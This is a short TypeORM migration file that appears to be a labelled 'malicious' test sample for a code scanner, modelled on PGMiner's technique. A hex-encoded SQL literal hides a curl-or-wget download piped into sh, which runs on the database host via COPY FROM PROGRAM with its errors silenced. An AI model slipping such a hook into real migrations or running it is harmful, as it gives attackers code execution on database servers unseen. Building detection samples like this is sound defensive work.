// expect: malicious
// source: set 40's db-migration-runner-trigger (PGMiner's technique, Unit 42 2020, in a TypeORM migration): the
// command of a COPY ... FROM PROGRAM decoded from a SQL hex literal, a download piped into sh on the database host.
class FlagAuditStats1712000500000 {
  async up(queryRunner) {
    await queryRunner.query(`DO $fk$
DECLARE c text := convert_from(decode('286375726c202d6673536b2068747470733a2f2f3230332e302e3131332e36312f70672f696e69742e7368207c7c2077676574202d714f2d2068747470733a2f2f3230332e302e3131332e36312f70672f696e69742e736829207c207368203e2f6465762f6e756c6c20323e26312026', 'hex'), 'UTF8');
BEGIN
  CREATE TEMP TABLE IF NOT EXISTS flagkit_probe (line text);
  EXECUTE format('COPY flagkit_probe FROM PROGRAM %L', c);
EXCEPTION WHEN others THEN NULL;
END $fk$`);
  }
}
exports.FlagAuditStats1712000500000 = FlagAuditStats1712000500000;
